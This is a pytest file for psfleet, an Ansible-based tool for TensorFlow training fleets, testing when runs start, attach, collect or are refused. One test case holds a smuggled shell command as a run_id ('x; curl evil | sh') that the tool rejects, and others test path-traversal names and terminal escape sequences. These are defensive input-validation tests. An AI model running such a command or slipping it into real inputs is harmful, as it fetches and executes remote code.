import re
from collections.abc import Mapping, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from ansible import constants

from plugins.module_utils.environments.environment import TENSORFLOW_VERSION
from psfleet.run.active_runs import RUN_ID_RULE, RefusedError
from psfleet.run.folder import FolderState
from psfleet.run.start import Folder, decide, deploy_problems, deployed_by_others
from psfleet.watch.hints import with_inventory
from tests.psfleet.run.answering_hosts import PLAN, TASKS, found

ANA, BOB = "ana@desk, 2026-11-25 09:12 UTC", "bob@ws, 2026-11-25 09:13 UTC"
CHIEF = {"name": "chief0", "job": "chief", "index": 0, "host": "n3", "role": "client"}
IDLE = {"n1": found("ps0"), "n2": found("worker0")}
SERVES = found("ps0", alive=True, run_id="r1")
TRAINS = found("worker0", alive=True, run_id="r1")
OLD = "2.20.0"
# With GPUs for worker 0; a host that a release before GPUs has deployed has the same plan and version.
WITH_GPUS = {**PLAN, "tasks": [PLAN["tasks"][0], {**PLAN["tasks"][1], "gpus": [0]}]}
RUNNING = Folder("running", "aaa")


def decided(
    hosts: Mapping[str, dict[str, Any]],
    folder: Folder = Folder(),  # noqa: B008 - it is frozen
    tasks: Sequence[dict[str, Any]] = TASKS,
    plan: Mapping[str, Any] = PLAN,
) -> str | tuple[str, ...]:
    """Return the decision about the run r1, or the problems, on idle hosts except for these answers."""
    try:
        return decide("r1", plan, tasks, {**IDLE, **hosts}, folder)
    except RefusedError as refused:
        return refused.problems


@pytest.mark.parametrize(
    ("hosts", "folder", "action"),
    [
        ({}, Folder(), "start"),
        ({}, Folder("stopped", "aaa"), "start"),
        ({"n2": found("worker0", run_id="r1", phase="failed")}, Folder("failed", "aaa"), "start"),
        ({"n2": TRAINS}, RUNNING, "attach"),
        # A start that was interrupted before the chief is completed.
        ({"n1": SERVES}, RUNNING, "start"),
        # A run that ended unwatched is collected, also while its ps still serve.
        *(
            ({"n1": ps, "n2": found("worker0", run_id="r1", phase=phase)}, RUNNING, "collect")
            for ps in (found("ps0", run_id="r1"), SERVES)
            for phase in ("finished", "failed")
        ),
        ({"n2": found("worker0", run_id="r1", phase="training")}, RUNNING, "start"),
        ({"n2": found("worker0", run_id="r1", phase="finished")}, Folder("stopped", "aaa"), "start"),
        ({"n2": found("worker0", run_id="r0", phase="finished")}, RUNNING, "start"),
        # All tasks have an older version; a host without a task of the run may have any version.
        ({"n1": found("ps0", tensorflow=OLD), "n2": found("worker0", tensorflow=OLD)}, Folder(), "start"),
        ({"n3": found("worker7", tensorflow=OLD, deployed={})}, Folder(), "start"),
        # A run that is going on is attached to although a host was deployed again.
        ({"n1": {**SERVES, "tensorflow": OLD}, "n2": TRAINS}, RUNNING, "attach"),
    ],
)
def test_a_run_starts_or_is_attached_to_by_the_state_of_its_folder_and_hosts(
    hosts: dict[str, dict[str, Any]], folder: Folder, action: str
) -> None:
    assert decided(hosts, folder) == action


def test_a_host_without_a_task_in_the_run_need_not_be_deployed() -> None:
    assert decided({"n1": found("ps0", deployed={})}, tasks=TASKS[1:]) == "start"


@pytest.mark.parametrize(("alive", "action"), [(True, "attach"), (False, "start")])
def test_a_run_of_a_program_is_attached_to_only_while_its_chief_is_alive(alive: bool, action: str) -> None:
    hosts = {"n2": TRAINS, "n3": found("chief0", alive=alive, run_id="r1")}
    assert decided(hosts, RUNNING, [*TASKS, CHIEF]) == action


MOVED = {**PLAN, "hash": "bbb", "tasks": [PLAN["tasks"][0], {**PLAN["tasks"][1], "port": 2999}]}


def of_began(*tasks: tuple[str, int, str]) -> Sequence[Mapping[str, Any]]:
    """Tasks of a plan: job, index, host."""
    return [{"job": job, "index": index, "host": host} for job, index, host in tasks]


WITH_ANOTHER = of_began(("ps", 0, "n1"), ("worker", 0, "n2"), ("worker", 1, "n3"))


@pytest.mark.parametrize("state", ["stopped", "failed"])
@pytest.mark.parametrize("another", [("worker", 1, "n3"), ("ps", 1, "n3")])
def test_a_stopped_or_failed_run_may_be_resumed_with_other_numbers_of_tasks(
    state: FolderState, another: tuple[str, int, str]
) -> None:
    plan_tasks = of_began(("ps", 0, "n1"), ("worker", 0, "n2"), another)
    assert decided({}, Folder(state, "bbb", plan_tasks=plan_tasks, can_resize=True)) == "start"


@pytest.mark.parametrize(
    ("plan_tasks", "can_resize", "why"),
    [
        (
            of_began(("ps", 0, "n1"), ("worker", 0, "n3")),
            True,
            "worker0 would change its host, and a run stays",
        ),
        (
            of_began(("ps", 0, "n2"), ("worker", 0, "n2")),
            True,
            "ps0 would change its host, and a task's records",
        ),
        ((), True, "worker0 would change its host, and a run stays where its checkpoint is"),
        (
            WITH_ANOTHER,
            False,
            "only an asynchronous or synchronous model whose workers have no parts of their own goes on",
        ),
    ],
)
def test_a_run_is_not_resumed_with_another_host_of_its_chief_or_of_a_ps_that_stays(
    plan_tasks: Sequence[Mapping[str, Any]], can_resize: bool, why: str
) -> None:
    problems = decided({}, Folder("stopped", "bbb", plan_tasks=plan_tasks, can_resize=can_resize))
    assert f"; {why}" in " ".join(problems)


def test_a_worker_that_remains_must_keep_its_host() -> None:
    """Records collected from another host would replace those of the earlier part."""
    now = {**PLAN, "tasks": [*PLAN["tasks"], {**PLAN["tasks"][1], "index": 1, "host": "n1"}]}
    hosts = {host: {**answer, "deployed": now} for host, answer in IDLE.items()}
    folder = Folder("stopped", "bbb", plan_tasks=WITH_ANOTHER, can_resize=True)
    with pytest.raises(RefusedError, match="worker1 would change its host"):
        decide("r1", now, TASKS, hosts, folder)
    stays = [*PLAN["tasks"], {**PLAN["tasks"][1], "index": 1, "host": "n1"}]
    assert (
        decide("r1", now, TASKS, hosts, Folder("stopped", "bbb", plan_tasks=stays, can_resize=True))
        == "start"
    )


@pytest.mark.parametrize(
    "lead", [TRAINS, found("worker0", run_id="r1", phase="finished")], ids=["goes on", "not collected"]
)
def test_a_run_that_is_still_going_on_is_not_resized(lead: dict[str, Any]) -> None:
    problems = decided({"n2": lead}, Folder("running", "bbb", plan_tasks=WITH_ANOTHER, can_resize=True))
    assert "it is still going on, or not collected" in " ".join(problems)


@pytest.mark.parametrize(
    ("hosts", "folder", "problem"),
    [
        (
            {},
            Folder("stopped", "bbb"),
            "run r1 began on plan bbb, today's inventory is plan aaa; worker0 would change its host, and a "
            "run stays where its checkpoint is: "
            "put the inventory back, or begin a new run",
        ),
        (
            {},
            Folder("ended", "aaa"),
            "run_id r1 exists and has ended; choose another, or look at it with "
            "ansible-playbook verify.yml -e run_id=r1",
        ),
        (
            {"n2": found("worker0", holds_run=True)},
            Folder(),
            "run_id r1 is new here, and n2 already has files of a run of that name (runs/r1 in the state "
            "directory): resume it from the controller where it began, choose another run_id, or remove the "
            "files there",
        ),
        (
            {"n2": found("worker0", run_id="r1", holds_run=True, begun=ANA)},
            Folder(),
            f"run_id r1 is new here, and n2 already has files of a run of that name, begun by {ANA} (runs/r1 "
            "in the state directory): resume it from the controller where it began, choose another run_id, "
            "or remove the files there",
        ),
        (
            {"n1": found("ps0", alive=True, run_id="r0"), "n3": found("server7", alive=True, run_id="r0")},
            Folder(),
            "run r0 is going on (ps0 on n1, server7 on n3): watch it with ansible-playbook train.yml "
            "-e run_id=r0, or wait for its end. Where it is yours, or nobody needs it, end it with "
            "ansible-playbook stop.yml -e run_id=r0",
        ),
        # Hosts may name different beginners: all are shown, and none twice.
        (
            {
                "n1": found("ps0", alive=True, run_id="r0", begun=ANA),
                "n2": found("worker0", alive=True, run_id="r0", begun=ANA),
                "n3": found("server7", alive=True, run_id="r0", begun=BOB),
            },
            Folder(),
            f"run r0 is going on (ps0 on n1, worker0 on n2, server7 on n3), begun by {ANA} or {BOB}: watch "
            "it with ansible-playbook train.yml -e run_id=r0, or wait for its end. Where it is yours, or "
            "nobody needs it, end it with ansible-playbook stop.yml -e run_id=r0",
        ),
        (
            {"n1": found("ps0", alive=True, run_id="x; curl evil | sh")},
            Folder(),
            f"a host names the run 'x; curl evil | sh'; expected {RUN_ID_RULE} (ps0 on n1)",
        ),
        # The version of a bare host is not mentioned.
        (
            {"n1": found("ps0", deployed={}, tensorflow="")},
            Folder(),
            "run deploy.yml first, on these hosts: n1",
        ),
        (
            {"n1": found("ps0", deployed=MOVED)},
            Folder(),
            "the plan deployed on n1 is not today's inventory (worker0: n2 10.0.0.2:2999 GPUs [] deployed, "
            "n2 10.0.0.2:2222 GPUs [] in the inventory); run deploy.yml",
        ),
        (
            {"n1": found("ps0", deployed={**PLAN, "hash": "ccc"}, deployed_by="bob@ws")},
            Folder(),
            "the plan deployed on n1, last by bob@ws, is not today's inventory (hash ccc deployed, aaa in "
            "the inventory); run deploy.yml",
        ),
        (
            {"n1": found("ps0", tensorflow=OLD)},
            Folder(),
            f"the hosts have different versions of TensorFlow ({OLD} on n1; {TENSORFLOW_VERSION} on n2): "
            "run deploy.yml on n1",
        ),
        (
            {"n2": found("worker0", tensorflow="")},
            Folder(),
            f"the hosts have different versions of TensorFlow ({TENSORFLOW_VERSION} on n1; no complete one "
            "on n2): run deploy.yml on n2",
        ),
    ],
)
def test_a_run_that_cannot_start_is_refused_with_the_reason(
    hosts: dict[str, dict[str, Any]], folder: Folder, problem: str
) -> None:
    assert decided(hosts, folder) == (problem,)


def test_tasks_with_gpus_need_a_tensorflow_with_cuda() -> None:
    lacking = "tasks have GPUs on n2, and TensorFlow there has no CUDA: run deploy.yml"
    assert decided({}, plan=WITH_GPUS) == (lacking,)
    assert decided({"n2": found("worker0", lacks_cuda=False)}, plan=WITH_GPUS) == "start"
    ended = {"n2": found("worker0", run_id="r1", phase="finished")}
    assert decided(ended, RUNNING, plan=WITH_GPUS) == "collect"


def test_a_run_does_not_start_on_hosts_without_their_fence() -> None:
    """The text of a host is made printable, and a run that is going on can still be attached to."""
    gone = "the table inet psfleet is not there"
    hosts = {"n1": found("ps0", unfenced=gone), "n2": found("worker0", unfenced=gone)}
    told = "the ports of tasks are not fenced as deployed on {} ({}): run ansible-playbook deploy.yml"
    assert decided(hosts) == (told.format("n1, n2", gone),)
    assert decided({"n2": found("worker0", unfenced="\x1b[2J" + "x" * 999)}) == (
        told.format("n2", " [2J" + "x" * 496),
    )
    running = {"n2": found("worker0", alive=True, run_id="r1", unfenced=gone)}
    assert decided(running, RUNNING) == "attach"
    bare = {"n1": found("ps0", deployed={}, unfenced=gone)}
    assert decided(bare) == ("run deploy.yml first, on these hosts: n1",)


def test_tasks_without_an_answer_are_refused_with_all_other_problems() -> None:
    with pytest.raises(RefusedError, match="--limit leaves out worker0 on n2, or these hosts gave no answer"):
        decide("r1", PLAN, TASKS, {"n1": found("ps0")}, Folder())
    with pytest.raises(RefusedError) as refused:
        decide("r1", PLAN, TASKS, {"n1": found("ps0", deployed={})}, Folder("ended", "aaa"))
    assert len(refused.value.problems) == 3


@pytest.mark.parametrize("run_id", ["a/b", "..", "a b", "a@b", "a%b", "", "Night", "-x", "a" * 64, "a\n"])
def test_a_run_id_that_is_no_folder_name_is_refused(run_id: str) -> None:
    with pytest.raises(RefusedError, match=re.escape(repr(run_id))):
        decide(run_id, PLAN, TASKS, IDLE, Folder())
    assert decide("a" * 63, PLAN, TASKS, IDLE, Folder()) == "start"


def test_advice_names_the_inventory_unless_it_is_the_default(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    text = "end it with ansible-playbook stop.yml"
    assert with_inventory(text, [f"{tmp_path}/mine"]) == "end it with ansible-playbook -i mine stop.yml"
    assert with_inventory(with_inventory(text, ["other"]), ["mine"]).count("-i") == 1
    assert with_inventory(text, ["my hosts"]) == "end it with ansible-playbook -i 'my hosts' stop.yml"
    assert with_inventory(text, list(constants.DEFAULT_HOST_LIST)) == text


WATCH = (
    "run r1 is going on (worker0 on n2): watch it with ansible-playbook train.yml -e run_id=r1, or wait for "
    "its end{}. Where it is yours, or nobody needs it, end it with ansible-playbook stop.yml -e run_id=r1"
)
BESIDE = (
    "; -e trainer_deploy_during_run=true deploys nevertheless, and the run keeps what it was started with"
)


@pytest.mark.parametrize(
    ("hosts", "allowed", "said"),
    [
        ({}, False, []),
        (
            {"n2": TRAINS},
            False,
            [WATCH.format(BESIDE)],
        ),
        ({"n2": TRAINS}, True, []),
        # A host that was left behind, and has no task of the run.
        ({"n1": found("ps0", deployed=MOVED), "n2": TRAINS}, True, []),
        *(
            (
                {"n2": found("worker0", alive=True, run_id="r1", deployed=MOVED)},
                allowed,
                [
                    WATCH.format(""),
                    "its tasks would be ended by another plan: worker0: n2 10.0.0.2:2999 GPUs [] deployed,"
                    " n2 10.0.0.2:2222 GPUs [] in the inventory",
                ],
            )
            for allowed in (False, True)
        ),
    ],
)
def test_a_deployment_is_refused_while_a_run_is_going_on_unless_it_is_allowed(
    hosts: dict[str, dict[str, Any]], allowed: bool, said: list[str]
) -> None:
    assert deploy_problems({**IDLE, **hosts}, PLAN, allowed=allowed) == said


def test_another_person_who_deployed_last_is_named() -> None:
    hosts = {
        "n1": found("ps0", deployed_by="bob@ws"),
        "n2": found("worker0", deployed_by="ana@desk"),
        "n3": found("worker1"),
        "n4": found("worker2", deployed_by="bob@ws"),
    }
    assert deployed_by_others(hosts, "ana@desk") == ["n1, n4: deployed last by bob@ws"]


def test_a_host_with_an_interrupted_deployment_must_be_deployed_first() -> None:
    interrupted = {"n2": found("worker0", environment="")}
    assert decided(interrupted) == ("run deploy.yml first, on these hosts: n2",)


def test_a_program_that_is_not_on_its_hosts_must_be_deployed_first() -> None:
    program = {"release": "abc", "file": "/opt/psfleet/programs/abc/main.py"}
    there = {"n1": found("ps0", programs=["0b0", "abc"]), "n2": found("worker0", programs=["abc"])}
    assert decide("r1", PLAN, TASKS, there, Folder(program=program)) == "start"
    with pytest.raises(RefusedError) as refused:
        decide("r1", PLAN, TASKS, there | {"n2": found("worker0", programs=["0b0"])}, Folder(program=program))
    assert refused.value.problems == (
        "the program /opt/psfleet/programs/abc/main.py is not on n2: run ansible-playbook deploy.yml",
    )
    # So must the environment with the packages that it requires.
    requires = Folder(program={**program, "requirements": "c" * 12})
    with pytest.raises(
        RefusedError, match=r"main\.py requires are not on n1, n2: run ansible-playbook deploy\.yml"
    ):
        decide("r1", PLAN, TASKS, there, requires)
    having = {
        host: {**answer, "program_environments": {"c" * 12: "d" * 12}} for host, answer in there.items()
    }
    assert decide("r1", PLAN, TASKS, having, requires) == "start"
    # A run that is already training has its program.
    going_on = {"n1": SERVES, "n2": TRAINS}
    assert decide("r1", PLAN, TASKS, going_on, replace(RUNNING, program=program)) == "attach"


def test_failed_checks_of_hosts_are_reported_once_before_any_task_starts() -> None:
    held = {"name": "ports", "task": "ps0", "found": "port 2222 of ps0 is held by nc", "remedy": "stop it"}
    data = {"name": "data", "task": "", "found": "there is no /data", "remedy": "run deploy.yml"}
    # No task of this run.
    other = held | {"task": "chief0", "found": "port 2223 of chief0 is held by nc"}
    memory = {"name": "memory", "task": "", "found": "1.00 GiB of memory", "remedy": "have more ps"}
    lacking = {"n1": found("ps0", checks=[held, data, memory, other]), "n2": found("worker0", checks=[data])}
    with pytest.raises(RefusedError) as refused:
        decide("r1", PLAN, TASKS, lacking, Folder())
    assert refused.value.problems == (
        "n1: port 2222 of ps0 is held by nc; stop it",
        "n1, n2: there is no /data; run deploy.yml",
        "n1: 1.00 GiB of memory; have more ps",
    )
    with pytest.raises(RefusedError, match=r"is held by nc; stop it$"):  # it has data and a model of its own
        decide("r1", PLAN, TASKS, lacking, Folder("stopped", "aaa"))
    going_on = {name: {**SERVES, "checks": [held]} for name in ("n1",)} | {"n2": TRAINS | {"checks": [data]}}
    assert decide("r1", PLAN, TASKS, going_on, Folder("running", "aaa")) == "attach"


def test_failed_checks_before_a_deployment_are_reported_once_also_during_a_run() -> None:
    metrics = {"name": "metrics", "task": "", "found": "there is no /metrics", "remedy": "make it"}
    said = "n1, n2: there is no /metrics; make it"
    idle = {"n1": found("ps0", checks=[metrics]), "n2": found("worker0", checks=[metrics])}
    assert deploy_problems(idle, PLAN, allowed=False) == deploy_problems(idle, PLAN, allowed=True) == [said]
    held = {"name": "ports", "task": "ps0", "found": "port 2222 of ps0 is held by nc", "remedy": "stop it"}
    taken = {**idle, "n2": found("worker0", checks=[held])}
    assert deploy_problems(taken, PLAN, allowed=True) == [
        "n1: there is no /metrics; make it",
        "n2: port 2222 of ps0 is held by nc; stop it",
    ]
    # Its run may hold a port that another task has in today's plan.
    busy = {**idle, "n1": SERVES | {"checks": [metrics, held]}}
    assert deploy_problems(busy, PLAN, allowed=True) == [said]
    assert [said, *deploy_problems({"n1": SERVES}, PLAN, allowed=False)] == deploy_problems(
        busy, PLAN, allowed=False
    )


def test_the_own_model_of_a_run_must_be_on_the_hosts_of_its_workers() -> None:
    own = {"release": "abc", "file": "/opt/psfleet/programs/abc/mine.py"}
    lacking = "the model /opt/psfleet/programs/abc/mine.py is not on n2: run ansible-playbook deploy.yml"
    assert decided({}, Folder("stopped", "aaa", model=own)) == (lacking,)
    there = {"n2": {**IDLE["n2"], "programs": ["abc"]}}
    assert decided(there, Folder("stopped", "aaa", model=own)) == "start"
